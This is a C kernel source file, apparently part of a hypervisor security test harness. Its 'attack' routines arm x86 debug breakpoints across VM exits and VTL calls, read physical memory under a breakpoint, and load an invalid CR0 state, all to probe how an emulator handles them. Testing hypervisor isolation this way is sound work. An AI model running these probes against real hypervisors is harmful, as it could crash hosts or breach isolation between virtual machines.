// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Attacks that only an emulator lets through to the hypervisor: breakpoints
 * that stay armed across an exit, and processor state that VMRUN refuses.
 */
#include "attack.h"
#include "vtl.h"

#include <asm/processor-flags.h>
#include <linux/irqflags.h>
#include <linux/sched.h>

#define DR7_OFF	    0x400ul
#define DR7_EXECUTE (DR7_OFF | 0x2ul)
#define DR7_ACCESS8 (DR7_OFF | 0xb0002ul) /* reads and writes, 8 bytes */
#define ANY_CALL    0x54455300ul	  /* CALL_TEST_BASE: an exit */

/* An exit, and then a VTL call, with a breakpoint armed. */
static void exit_with(u64 address, unsigned long dr7)
{
	u64 result;
	unsigned long flags;

	local_irq_save(flags);
	asm volatile("mov %0, %%dr0" : : "r"(address));
	asm volatile("mov %0, %%dr7" : : "r"(dr7));
	hypervisor_call(ANY_CALL, 0, 0, &result);
	try_vtl(VTL_CALL_NULL, 0, &result);
	asm volatile("mov %0, %%dr7" : : "r"(DR7_OFF));
	local_irq_restore(flags);
}

/* breakpoints FIRST END STEP: at each address, on execution and on access. */
void attack_breakpoints(const struct command *command)
{
	u64 end = command_number(command, 2);
	u64 step = command_number(command, 3);
	u64 at;

	for (at = command_number(command, 1); step != 0 && at < end;
	     at += step) {
		exit_with(at, DR7_EXECUTE);
		exit_with(at, DR7_ACCESS8);
		cond_resched();
	}
	say("succeeded");
}

/*
 * breakpoint_read ADDRESS TARGET: reads TARGET, a physical address, with a
 * breakpoint armed on accesses to ADDRESS.
 */
void attack_breakpoint_read(const struct command *command)
{
	unsigned long flags;
	struct alias alias;
	u64 value = 0;
	int fault;

	if (alias_open(&alias, ALIAS_4K, command_number(command, 2)) != 0) {
		return;
	}
	local_irq_save(flags);
	asm volatile("mov %0, %%dr0" : : "r"(command_number(command, 1)));
	asm volatile("mov %0, %%dr7" : : "r"(DR7_ACCESS8));
	asm volatile(TRY("mov (%[at]), %[value]")
		     : "=a"(fault), [value] "+&r"(value)
		     : [at] "r"(alias.address));
	asm volatile("mov %0, %%dr7" : : "r"(DR7_OFF));
	local_irq_restore(flags);
	alias_close(&alias);
	say_outcome(fault);
	say(" 0x%llx", value);
}

/* NW without CD: #GP on a processor. */
void attack_lose_cr0(const struct command *command)
{
	unsigned long cr0;

	local_irq_disable();
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	cr0 = (cr0 | X86_CR0_NW) & ~X86_CR0_CD;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	asm volatile("in $0x64, %%al" : : : "eax"); /* an exit */
	local_irq_enable();
	say("succeeded");
}
